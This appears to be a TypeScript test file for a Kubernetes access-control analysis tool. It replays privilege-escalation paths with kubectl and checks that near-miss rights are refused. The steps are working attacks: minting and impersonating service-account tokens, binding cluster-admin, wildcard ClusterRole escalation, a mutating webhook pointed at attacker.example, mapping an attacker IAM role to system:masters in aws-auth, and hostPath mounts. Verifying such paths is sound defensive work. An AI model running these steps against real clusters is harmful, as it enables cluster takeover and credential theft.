import { match, strictEqual } from "node:assert/strict";
import type { Rule } from "../../../cli/changes/rbac/rule";
import { rule } from "../../cli/changes/planted/world";
import { type KubernetesObject, untilTrue } from "../running/api-client";

/** Runs kubectl as the user of a case, and returns what it prints. If it fails, rejects with its message. */
export type Kubectl = (args: string[], object?: object) => Promise<string>;

/** A user's rights by namespace. `""` stands for all namespaces. */
export type Rights = Record<string, Rule[]>;

/** A way that a user with exactly these rights goes by kubectl, and rights that are nearly enough and are refused. */
export interface Replay {
  /** The kind of its first step. */
  kind: string;
  rights: Rights;
  near: Rights;
  /** A message other than Forbidden that may end the refused attempt. */
  refused?: RegExp;
  /** Goes the way, and checks its result. `user` is the name of the user's service account and roles. */
  go(kubectl: Kubectl, found: Found, user: string): Promise<void>;
}

/** Reads the cluster as its administrator. */
export interface Found {
  find(kind: string, name: string, namespace?: string): Promise<KubernetesObject | undefined>;
  /** Waits until a new pod in a namespace runs as the service account. */
  podAs(namespace: string, serviceAccount: string, label: string): Promise<void>;
}

export const AUDIENCE = "pods.eks.amazonaws.com";

/** The value of the Secret that a class makes as a copy. */
export const VALUE = "s3cret";

const ADMISSION = "admissionregistration.k8s.io";
const IN_ORDERS = ["-n", "orders"];

const pod = (name: string, namespace: string, more: object = {}) => ({
  ...{ apiVersion: "v1", kind: "Pod", metadata: { name, namespace, labels: { of: name } } },
  spec: { serviceAccountName: "web", containers: [{ name: "main", image: "busybox" }], ...more },
});

/** The audience and subject of a token, and the pod that it is bound to. */
function claimsOf(token: string) {
  const [, claims = ""] = token.trim().split(".");
  const { aud, sub, "kubernetes.io": of } = JSON.parse(Buffer.from(claims, "base64url").toString());
  return { aud, sub, pod: of?.pod?.name };
}

const tokenFor = (kubectl: Kubectl) =>
  kubectl([
    ...["create", "token", "web", ...IN_ORDERS, "--audience", AUDIENCE],
    ...["--bound-object-kind", "Pod", "--bound-object-name", "web-1"],
  ]);

async function endsWithToken(kubectl: Kubectl): Promise<void> {
  const { aud, pod: bound, sub } = claimsOf(await tokenFor(kubectl));
  strictEqual(`${aud} ${sub} ${bound}`, `${AUDIENCE} system:serviceaccount:orders:web web-1`);
}

const image = (name: string) =>
  JSON.stringify({ spec: { containers: [{ name, image: "attacker/image" }] } });
const template = (name: string) => `{"spec":{"template":${image(name)}}}`;

export const REPLAYS: Replay[] = [
  {
    kind: "create-pod",
    rights: { orders: [rule("create", "pods")] },
    near: { spare: [rule("create", "pods")] },
    async go(kubectl, { find }) {
      await kubectl(["create", "-f", "-"], pod("made", "orders"));
      strictEqual((await find("Pod", "made", "orders"))?.spec.serviceAccountName, "web");
    },
  },
  {
    kind: "make-pods",
    rights: { orders: [rule("create", "jobs")] },
    near: { orders: [rule("get list", "jobs")], spare: [rule("create", "jobs")] },
    async go(kubectl, { podAs }) {
      const made = pod("by-job", "orders", { restartPolicy: "Never" });
      await kubectl(["create", "-f", "-"], {
        ...{
          apiVersion: "batch/v1",
          kind: "Job",
          metadata: { name: "by-job", namespace: "orders" },
        },
        spec: { template: { metadata: { labels: { of: "by-job" } }, spec: made.spec } },
      });
      await podAs("orders", "web", "by-job");
    },
  },
  {
    kind: "patch-pod",
    rights: { orders: [rule("get patch", "pods")] },
    near: { orders: [rule("get patch", "pods", { resourceNames: ["batch-1"] })] },
    async go(kubectl, { find }) {
      await kubectl(["patch", "pod", "web-1", ...IN_ORDERS, "-p", image("main")]);
      const found = await find("Pod", "web-1", "orders");
      strictEqual(found?.spec.containers[0].image, "attacker/image");
    },
  },
  {
    kind: "add-ephemeral-container",
    rights: { orders: [rule("get", "pods"), rule("patch", "pods/ephemeralcontainers")] },
    near: { orders: [rule("get", "pods pods/ephemeralcontainers")] },
    async go(kubectl, { find }) {
      const more = ["--image", "attacker/image", "-c", "added", "--attach=false"];
      await kubectl(["debug", "web-1", ...IN_ORDERS, ...more, "--profile", "baseline"]);
      const found = await find("Pod", "web-1", "orders");
      strictEqual(found?.spec.ephemeralContainers[0].name, "added");
    },
  },
  {
    kind: "request-token",
    rights: { orders: [rule("create", "serviceaccounts/token", { resourceNames: ["web"] })] },
    near: { orders: [rule("create", "serviceaccounts/token", { resourceNames: ["batch"] })] },
    go: endsWithToken,
  },
  {
    kind: "read-copied-secret",
    rights: { orders: [rule("get", "secrets", { resourceNames: ["copy"] })] },
    near: { orders: [rule("get", "secrets", { resourceNames: ["other"] })] },
    async go(kubectl) {
      const data = await kubectl([
        "get",
        "secret",
        "copy",
        ...IN_ORDERS,
        "-o",
        "jsonpath={.data.value}",
      ]);
      strictEqual(Buffer.from(data, "base64").toString(), VALUE);
    },
  },
  {
    kind: "create-account-token-secret",
    rights: { other: [rule("create get", "secrets")] },
    near: { other: [rule("create", "secrets")] },
    async go(kubectl, _, user) {
      await kubectl(["create", "-f", "-"], {
        ...{ apiVersion: "v1", kind: "Secret", type: "kubernetes.io/service-account-token" },
        metadata: {
          ...{ name: user, namespace: "other" },
          annotations: { "kubernetes.io/service-account.name": "operator" },
        },
      });
      const token = ["secret", user, "-n", "other", "-o", "jsonpath={.data.token}"];
      let data = "";
      await untilTrue(async () => {
        data = await kubectl(["get", ...token]);
        return data !== "";
      });
      const { sub } = claimsOf(Buffer.from(data, "base64").toString());
      strictEqual(sub, "system:serviceaccount:other:operator");
    },
  },
  {
    kind: "impersonate",
    rights: { other: [rule("impersonate", "serviceaccounts", { resourceNames: ["operator"] })] },
    near: { other: [rule("impersonate", "serviceaccounts", { resourceNames: ["batch"] })] },
    go: (kubectl) =>
      endsWithToken((args) => kubectl([...args, "--as", "system:serviceaccount:other:operator"])),
  },
  {
    kind: "bind-role",
    // For a ClusterRole too, the server asks for the verb in the namespace of the binding.
    rights: {
      orders: [
        rule("create", "rolebindings"),
        rule("bind", "clusterroles", { resourceNames: ["cluster-admin"] }),
      ],
    },
    near: { "": [rule("create", "rolebindings")] },
    refused: /attempting to grant RBAC permissions not currently held/,
    async go(kubectl, _, user) {
      const whom = ["--clusterrole", "cluster-admin", "--serviceaccount", `attackers:${user}`];
      await kubectl(["create", "rolebinding", "own", ...IN_ORDERS, ...whom]);
      await endsWithToken(kubectl);
    },
  },
  {
    kind: "escalate-role",
    rights: {
      "": [rule("get patch escalate", "clusterroles", { resourceNames: ["escalate-role"] })],
    },
    near: {
      "": [rule("get patch", "clusterroles", { resourceNames: ["escalate-role-near"] })],
    },
    refused: /attempting to grant RBAC permissions not currently held/,
    async go(kubectl, _, user) {
      const rules = [{ verbs: ["*"], apiGroups: ["*"], resources: ["*"] }];
      await kubectl([
        "patch",
        "clusterrole",
        user,
        "--type",
        "merge",
        "-p",
        JSON.stringify({ rules }),
      ]);
      await endsWithToken(kubectl);
    },
  },
  {
    kind: "mutate-pods",
    rights: { "": [rule("create", "mutatingwebhookconfigurations")] },
    near: { "": [rule("create", "validatingwebhookconfigurations")] },
    async go(kubectl, { find }) {
      await kubectl(["create", "-f", "-"], {
        ...{ apiVersion: `${ADMISSION}/v1`, kind: "MutatingWebhookConfiguration" },
        metadata: { name: "attacker" },
        webhooks: [
          {
            ...{ name: "pods.attacker.example", sideEffects: "None", failurePolicy: "Ignore" },
            admissionReviewVersions: ["v1"],
            clientConfig: { url: "https://attacker.example/mutate" },
            rules: [
              { apiGroups: [""], apiVersions: ["v1"], operations: ["CREATE"], resources: ["pods"] },
            ],
            namespaceSelector: { matchLabels: { nowhere: "true" } },
          },
        ],
      });
      match(
        (await find("MutatingWebhookConfiguration", "attacker"))?.metadata.name ?? "",
        /attacker/,
      );
    },
  },
  {
    kind: "write-aws-auth",
    rights: {
      "kube-system": [rule("get patch", "configmaps", { resourceNames: ["aws-auth"] })],
    },
    near: { "kube-system": [rule("get", "configmaps")], orders: [rule("patch", "configmaps")] },
    async go(kubectl, { find }) {
      const mapRoles =
        "- rolearn: arn:aws:iam::222222222222:role/attacker\n  groups: [system:masters]\n";
      const change = JSON.stringify({ data: { mapRoles } });
      await kubectl(["patch", "configmap", "aws-auth", "-n", "kube-system", "-p", change]);
      strictEqual((await find("ConfigMap", "aws-auth", "kube-system"))?.data.mapRoles, mapRoles);
    },
  },
  {
    kind: "change-provider-class",
    rights: {
      orders: [
        rule("get patch", "secretproviderclasses"),
        rule("get", "secrets", { resourceNames: ["mine"] }),
      ],
    },
    near: { orders: [rule("get", "secretproviderclasses")] },
    async go(kubectl, { find }) {
      const change = JSON.stringify({
        spec: { secretObjects: [{ secretName: "mine", type: "Opaque" }] },
      });
      const patch = ["--type", "merge", "-p", change];
      await kubectl(["patch", "secretproviderclass", "web", ...IN_ORDERS, ...patch]);
      const found = await find("SecretProviderClass", "web", "orders");
      strictEqual(found?.spec.secretObjects[0].secretName, "mine");
    },
  },
  {
    kind: "change-node-program",
    rights: { "kube-system": [rule("get patch", "daemonsets")] },
    near: { "kube-system": [rule("get patch", "daemonsets", { resourceNames: ["kube-proxy"] })] },
    async go(kubectl, { find }) {
      const set = ["daemonset", "eks-pod-identity-agent", "-n", "kube-system"];
      await kubectl(["patch", ...set, "-p", template("eks-pod-identity-agent")]);
      const found = await find("DaemonSet", "eks-pod-identity-agent", "kube-system");
      strictEqual(found?.spec.template.spec.containers[0].image, "attacker/image");
    },
  },
  {
    kind: "reach-host",
    rights: { free: [rule("create", "pods")] },
    near: { spare: [rule("create", "pods")] },
    refused: /violates PodSecurity "baseline/,
    async go(kubectl, { find }, user) {
      const where = user === "reach-host" ? "free" : "spare";
      await kubectl(
        ["create", "-f", "-"],
        pod("on-host", where, {
          serviceAccountName: "default",
          volumes: [{ name: "root", hostPath: { path: "/var/lib/kubelet/pods" } }],
        }),
      );
      strictEqual((await find("Pod", "on-host", where))?.spec.volumes[0].hostPath.path.length, 21);
    },
  },
];
